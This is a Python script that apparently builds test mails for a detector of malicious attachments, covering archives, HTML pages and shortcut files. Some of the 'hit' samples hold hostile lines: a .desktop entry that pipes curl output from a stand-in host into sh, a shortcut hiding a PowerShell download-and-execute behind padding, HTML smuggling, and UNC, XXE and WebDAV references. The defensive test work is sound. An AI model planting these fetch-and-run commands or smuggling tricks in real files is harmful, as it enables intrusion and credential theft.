"""Writes the sample mails of the techniques archive, html-attachment and shortcut.

python -m tests.observe.make_file_samples
"""

from __future__ import annotations

import base64
import bz2
import lzma
from collections.abc import Iterator, Mapping
from pathlib import Path

from tests.observe import archive_files as made
from tests.observe.shortcut_files import link, network_item, property_list

SAMPLES = Path(__file__).parents[1] / "samples"
PICTURE = "https://img.beacon.example/p/77ab.gif"
PAGE = f'<!DOCTYPE html><html><body><p>Programme</p><img src="{PICTURE}" width="1" height="1"></body></html>'.encode()
PLAIN_PAGE = (
    b"<!DOCTYPE html><html><body><p>Programme</p><img src=logo.png><a href=#top>top</a></body></html>"
)
SHARE = "\\\\files.beacon.example\\share"
TEXT = {"programme.txt": b"The programme follows on Friday.\r\n"}
LETTER = (
    b"From: Paul Renard <p.renard@lettre-du-parc.example>\r\nTo: claire.masson@assemblee.example\r\n"
    b"Subject: Programme\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + PAGE
)
SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><style>@import url({PICTURE.replace("gif", "css")});</style></svg>'
MHT = (
    "From: <Saved by Browser>\r\nSubject: Programme\r\nMIME-Version: 1.0\r\n"
    'Content-Type: multipart/related; boundary="page"; type="text/html"\r\n\r\n--page\r\nContent-Type: text/html\r\n'
    "Content-Location: file:///C:/programme.html\r\n\r\n" + PAGE.decode() + "\r\n--page--\r\n"
).encode()
LIBRARY = (
    '<?xml version="1.0" encoding="UTF-8"?>\r\n<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/'
    'library">\r\n<name>@windows.storage.dll,-34582</name><version>6</version><isLibraryPinned>true</isLibraryPinned>'
    "<iconReference>imageres.dll,-1003</iconReference><searchConnectorDescriptionList><searchConnectorDescription>"
    "<simpleLocation><url>%s</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList>"
    "</libraryDescription>"
)
SEARCH = (
    '<?xml version="1.0"?><persistedQuery version="1.0"><query><conditions><condition type="leafCondition"/>'
    '</conditions><kindList><kind name="item"/></kindList><scope><include path="%s"/></scope></query></persistedQuery>'
)
CONNECTOR = (
    '<?xml version="1.0"?><searchConnectorDescription xmlns="http://schemas.microsoft.com/windows/2009/'
    'searchConnector"><description>Programme</description><iconReference>%s</iconReference></searchConnectorDescription>'
)
INTERNET = "[InternetShortcut]\r\n"


def archives() -> Iterator[tuple[str, str, bytes]]:
    """Sample name, file name and file."""
    letter = {"letter/programme.html": PAGE, **TEXT}
    yield "hit-zip", "programme.zip", made.zipped(letter)
    yield "hit-zip-streamed", "programme.zip", made.streamed_zip(letter)
    yield "hit-zip-without-directory", "programme.zip", made.without_directory(made.zipped(letter))
    yield "hit-zip-behind-junk", "programme.zip", b"MZ" + b"\x90" * 700 + made.zipped(letter)
    yield "hit-zip-two-directories", "programme.zip", made.zipped(letter) + made.zipped(TEXT)
    yield "hit-zip-wrongly-marked-encrypted", "programme.zip", made.marked_encrypted(made.zipped(letter))
    yield "hit-zip-in-zip", "programme.zip", made.zipped({"inner.zip": made.zipped(letter)})
    yield "hit-zip-bzip2", "programme.zip", made.zipped(letter, 12)
    yield "hit-zip-lzma", "programme.zip", made.zipped(letter, 14)
    yield (
        "hit-zip-shortcut",
        "programme.zip",
        made.zipped({"P.url": f"{INTERNET}URL=https://d.beacon.example/".encode()}),
    )
    yield "hit-zip-mail", "programme.zip", made.zipped({"letter.eml": LETTER})
    yield "hit-tar", "programme.tar", made.tarred(letter)
    yield "hit-tar-gzip", "programme.tgz", made.gzipped(made.tarred(letter))
    yield "hit-gzip", "programme.html.gz", made.gzipped(PAGE, "programme.html")
    yield "hit-bzip2", "programme.html.bz2", bz2.compress(PAGE)
    yield "hit-xz", "programme.html.xz", lzma.compress(PAGE)
    yield "hit-seven-zip", "programme.7z", made.seven_zipped(letter)
    yield "hit-seven-zip-lzma", "programme.7z", made.seven_zipped(letter, method="lzma")
    yield "hit-cab", "programme.cab", made.cabinet(letter)
    yield "hit-iso-joliet", "programme.iso", made.disk_image(letter)
    yield "hit-iso-plain", "programme.iso", made.disk_image({"programme.htm": PAGE}, joliet=False)
    yield "hit-udf", "programme.img", made.udf_image(letter)
    carried = base64.b64encode(made.zipped(letter)).decode()
    yield (
        "hit-smuggled-in-page",
        "open-me.html",
        (
            f"<html><body><script>z = atob('{carried}');a.download = 'programme.zip';</script></body></html>".encode()
        ),
    )
    yield "near-zip-of-text", "programme.zip", made.zipped(TEXT)
    yield "near-zip-of-plain-page", "programme.zip", made.zipped({"programme.html": PLAIN_PAGE})
    yield "near-zip-encrypted", "programme.zip", made.marked_encrypted(made.zipped(letter), method=99)
    yield "near-iso-of-text", "programme.iso", made.disk_image(TEXT)
    yield "near-rar", "programme.rar", b"Rar!\x1a\x07\x01\x00" + bytes(64)
    yield "near-page-beside", "programme.html", PAGE


def pages() -> Iterator[tuple[str, str, bytes]]:
    """Sample name, file name and file."""
    escaped = "".join(f"%{byte:02x}" if byte in b'<>" ' else chr(byte) for byte in PAGE)
    style = "https://style.beacon.example/a.xsl"
    yield "hit-html", "programme.html", PAGE
    yield "hit-htm-utf-16", "programme.htm", PAGE.decode().encode("utf-16")
    yield "hit-html-utf-16-unmarked", "programme.htm", PAGE.decode().encode("utf-16-le")
    yield "hit-shtml", "programme.shtml", PAGE
    yield "hit-hta", "programme.hta", PAGE
    yield (
        "hit-xhtml",
        "programme.xhtml",
        PAGE.replace(
            b"<!DOCTYPE html><html>", b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">'
        ).replace(b'height="1">', b'height="1"/>'),
    )
    yield (
        "hit-xhtml-in-xml",
        "programme.xml",
        (
            f'<?xml version="1.0"?><r xmlns:h="http://www.w3.org/1999/xhtml"><h:img src="{PICTURE}"/></r>'.encode()
        ),
    )
    yield "hit-mht", "programme.mht", MHT
    yield "hit-svg", "plan.svg", SVG.encode()
    yield (
        "hit-svg-prefix",
        "plan.svg",
        SVG.replace("<s", "<d:s").replace("</s", "</d:s").replace("xmlns", "xmlns:d").encode(),
    )
    yield (
        "hit-svg-with-page",
        "plan.svg",
        (
            SVG.partition("<style")[0].encode()
            + b'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="'
            + PICTURE.encode()
            + b'"/></body></foreignObject></svg>'
        ),
    )
    yield (
        "hit-refresh",
        "programme.html",
        (
            b'<html><head><meta http-equiv="refresh" content="0; url=https://go.beacon.example/r/77ab"></head></html>'
        ),
    )
    yield (
        "hit-xml-style-sheet",
        "feed.xml",
        f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{style}"?><r/>'.encode(),
    )
    yield (
        "hit-xml-style-sheet-share",
        "feed.xml",
        (f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{SHARE}\\a.xsl"?><r/>'.encode()),
    )
    yield (
        "hit-xml-document-type",
        "feed.xml",
        b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "https://dtd.beacon.example/r.dtd"><r/>',
    )
    yield (
        "hit-xml-entity",
        "feed.xml",
        (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "https://dtd.beacon.example/e">%x;]><r/>'),
    )
    yield (
        "hit-xinclude",
        "feed.xml",
        (
            b'<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="https://inc.beacon.example/a.xml"/></r>'
        ),
    )
    yield (
        "hit-xslt-import",
        "feed.xsl",
        (
            b'<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
            b'<xsl:import href="https://inc.beacon.example/a.xsl"/></xsl:stylesheet>'
        ),
    )
    yield (
        "hit-xslt-document",
        "feed.xsl",
        (
            b'<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
            b"<xsl:value-of select=\"document('https://inc.beacon.example/a.xml')\"/></xsl:stylesheet>"
        ),
    )
    yield (
        "hit-escaped-markup",
        "programme.html",
        f"<script>document.write(unescape('{escaped}'))</script>".encode(),
    )
    yield (
        "hit-base64-markup",
        "programme.html",
        (b"<script>document.write(atob('" + base64.b64encode(PAGE) + b"'))</script>"),
    )
    yield "near-plain-page", "programme.html", PLAIN_PAGE
    yield (
        "near-xml-names",
        "feed.xml",
        (
            b'<?xml version="1.0"?><r xmlns="https://ns.beacon.example/r" '
            b'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            b'xsi:schemaLocation="https://ns.beacon.example/r https://ns.beacon.example/r.xsd">'
            b'<image src="https://a.example/"/></r>'
        ),
    )
    yield (
        "near-svg-standard-type",
        "plan.svg",
        (
            b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
            b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
            b'<use xlink:href="#a"/></svg>'
        ),
    )
    yield "near-text-file", "programme.txt", PAGE.replace(b"<!DOCTYPE html><html>", b"The source is: ")


def shortcuts() -> Iterator[tuple[str, str, bytes]]:
    """Sample name, file name and file."""
    icon = f"{SHARE}\\icon.ico"
    local = "[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n"
    texts = {
        "hit-url-target": ("P.url", f"{INTERNET}URL=https://d.beacon.example/77ab\r\n"),
        "hit-url-share": ("P.url", f"{INTERNET}URL=file://files.beacon.example/share/p.pdf\r\n"),
        "hit-url-icon": ("P.url", f"{local}{INTERNET}URL=file:///C:/Windows\r\nIconIndex=1\r\nIconFile={icon}\r\n"),
        "hit-url-working-directory": (
            "P.url",
            f"{INTERNET}URL=C:\\Windows\\iediagcmd.exe\r\nWorkingDirectory=\\\\dav.beacon.example@ssl@443\\DavWWWRoot\\p\\\r\n",
        ),
        "hit-url-base": ("P.url", f"[DEFAULT]\r\nBASEURL=https://d.beacon.example/77ab\r\n{INTERNET}"),
        "hit-url-wide": ("P.url", "[InternetShortcut.W]\r\nURL=https://d.beacon.example/+AOk-\r\n"),
        "hit-website": ("P.website", f"{INTERNET}URL=https://d.beacon.example/77ab\r\n[MonitoredItem]\r\nIconFile=\r\n"),
        "hit-library": ("P.library-ms", LIBRARY % SHARE),
        "hit-library-escaped": ("P.library-ms", LIBRARY % "&#92;&#92;files.beacon.example&#92;share"),
        "hit-search": ("P.search-ms", SEARCH % SHARE),
        "hit-search-connector": ("P.searchConnector-ms", CONNECTOR % "https://d.beacon.example/i.ico"),
        "hit-webloc": ("P.webloc", property_list("https://d.beacon.example/77ab").decode()),
        "hit-inetloc": ("P.inetloc", property_list("file://files.beacon.example/share/p.app").decode()),
        "hit-fileloc": ("P.fileloc", property_list("smb://files.beacon.example/share/p").decode()),
        "hit-desktop-link": ("P.desktop", "[Desktop Entry]\nType=Link\nURL=https://d.beacon.example/77ab\nIcon=text\n"),
        "hit-desktop-command": (
            "P.desktop",
            "[Desktop Entry]\nType=Application\nExec=sh -c 'curl -s https://d.beacon.example/a|sh'\nIcon=pdf\n",
        ),
        "hit-scf": ("P.scf", f"[Shell]\r\nCommand=2\r\nIconFile={icon}\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n"),
        "hit-desktop-ini": ("desktop.ini", f"[.ShellClassInfo]\r\nIconResource={icon},0\r\n"),
        "hit-desktop-ini-name": ("desktop.ini", f"[.ShellClassInfo]\r\nLocalizedResourceName=@{SHARE}\\r.dll,-101\r\n"),
        "hit-autorun": ("autorun.inf", f"[autorun]\r\nopen=setup.exe\r\nicon={icon}\r\n"),
        "hit-theme": ("P.theme", f"[Theme]\r\nBrandImage={SHARE}\\b.png\r\n[Control Panel\\Desktop]\r\nPattern=\r\n"),
        "hit-rdp": ("P.rdp", "screen mode id:i:2\r\nfull address:s:desk.beacon.example:3389\r\nredirectdrives:i:1\r\n"),
        "hit-playlist-m3u": ("P.m3u", f"#EXTM3U\n#EXTINF:1,P\n{SHARE}\\p.mp3\n"),
        "hit-playlist-pls": ("P.pls", "[playlist]\nFile1=https://d.beacon.example/p.mp3\nTitle1=P\n"),
        "hit-playlist-asx": ("P.asx", '<asx version="3.0"><ref href="file://files.beacon.example/p.wma"/></asx>'),
        "hit-launch-file": ("P.jnlp", '<?xml version="1.0"?><jnlp codebase="https://d.beacon.example/"/>'),
        "hit-search-address": (
            "P.url",
            f"{INTERNET}URL=search-ms:query=p&crumb=location:%5C%5Cfiles.beacon.example%5Cshare&displayname=P\r\n",
        ),
        "near-url-own-disk": ("P.url", f"{INTERNET}URL=file:///C:/Windows/notepad.exe\r\nIconFile=C:\\Windows\\a.ico\r\n"),
        "near-library-own-folder": ("P.library-ms", LIBRARY % "knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}"),
        "near-desktop-ini": (
            "desktop.ini",
            "[.ShellClassInfo]\r\nLocalizedResourceName=@%SystemRoot%\\system32\\shell32.dll,-21770\r\nIconIndex=-235\r\n",
        ),
        "near-desktop-own-program": ("P.desktop", "[Desktop Entry]\nType=Application\nExec=gedit %U\nComment=See https://a.example/\n"),
        "near-written-about": ("notes.txt", f"The file said [InternetShortcut] and IconFile={icon}.\r\n"),
    }  # fmt: skip
    for sample, (name, text) in texts.items():
        yield sample, name, text.encode()
    yield (
        "hit-desktop-ini-utf-16",
        "desktop.ini",
        f"[.ShellClassInfo]\r\nIconFile={icon}\r\n".encode("utf-16"),
    )
    yield (
        "hit-webloc-binary",
        "P.webloc",
        property_list("https://d.beacon.example/77ab/programme", binary=True),
    )
    yield "hit-link-icon", "P.lnk", link(icon=icon, ids=b"\x1f\x50own")
    yield "hit-link-share", "P.lnk", link(share=SHARE, suffix="p.exe")
    yield "hit-link-items", "P.lnk", link(ids=network_item(SHARE))
    yield (
        "hit-link-arguments",
        "P.lnk",
        link(arguments=" " * 300 + "-c iwr https://d.beacon.example/a.ps1 | iex", icon="C:\\a.dll"),
    )
    yield "hit-link-working-directory", "P.lnk", link(working_directory=SHARE, icon="C:\\a.dll")
    yield "hit-link-icon-variables", "P.lnk", link(variables=("icon", f"{SHARE}\\%USERNAME%.ico"))
    yield "hit-link-target-variables", "P.lnk", link(variables=("target", f"{SHARE}\\p.exe"))
    yield (
        "near-link-own-disk",
        "P.lnk",
        link(arguments="/c start notes.txt", icon="%SystemRoot%\\system32\\shell32.dll"),
    )
    yield (
        "near-link-local-prefix",
        "P.lnk",
        link(icon="\\\\?\\C:\\Windows\\a.ico", working_directory="\\\\.\\C:\\"),
    )


def mail(technique: str, number: int, name: str, data: bytes) -> bytes:
    """A mail with one attached file that declares nothing about it."""
    moment = f"Wed, 12 Mar 2025 {8 + number // 60:02}:{number % 60:02}:00 +0100"
    head = (
        "Return-Path: <p.renard@lettre-du-parc.example>\n"
        "Received: from mx.lettre-du-parc.example (mx.lettre-du-parc.example [192.0.2.17])\n"
        f"\tby mail.assemblee.example with ESMTPS id f{number:04};\n\t{moment}\n"
        "From: Paul Renard <p.renard@lettre-du-parc.example>\n"
        "To: Claire Masson <claire.masson@assemblee.example>\n"
        f"Subject: Programme of the spring meeting\nDate: {moment}\n"
        f"Message-ID: <20250312{number:04}.{technique}@lettre-du-parc.example>\n"
        'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="programme"\n\n--programme\n'
        "Content-Type: text/plain; charset=utf-8\n\nDear Ms Masson,\n\nplease find the programme attached.\n\n"
        f'Paul Renard\n--programme\nContent-Type: application/octet-stream; name="{name}"\n'
        f'Content-Disposition: attachment; filename="{name}"\nContent-Transfer-Encoding: base64\n\n'
    )
    return head.encode() + base64.encodebytes(data) + b"--programme--\n"


def samples() -> Iterator[tuple[Path, bytes]]:
    """Every sample mail with its place."""
    makers: Mapping[str, Iterator[tuple[str, str, bytes]]] = {
        "archive": archives(),
        "html-attachment": pages(),
        "shortcut": shortcuts(),
    }
    for technique, files in makers.items():
        for number, (sample, name, data) in enumerate(files):
            yield SAMPLES / technique / f"{sample}.eml", mail(technique, number, name, data)


def main() -> None:
    """Write them all."""
    for path, data in samples():
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(data)


if __name__ == "__main__":
    main()
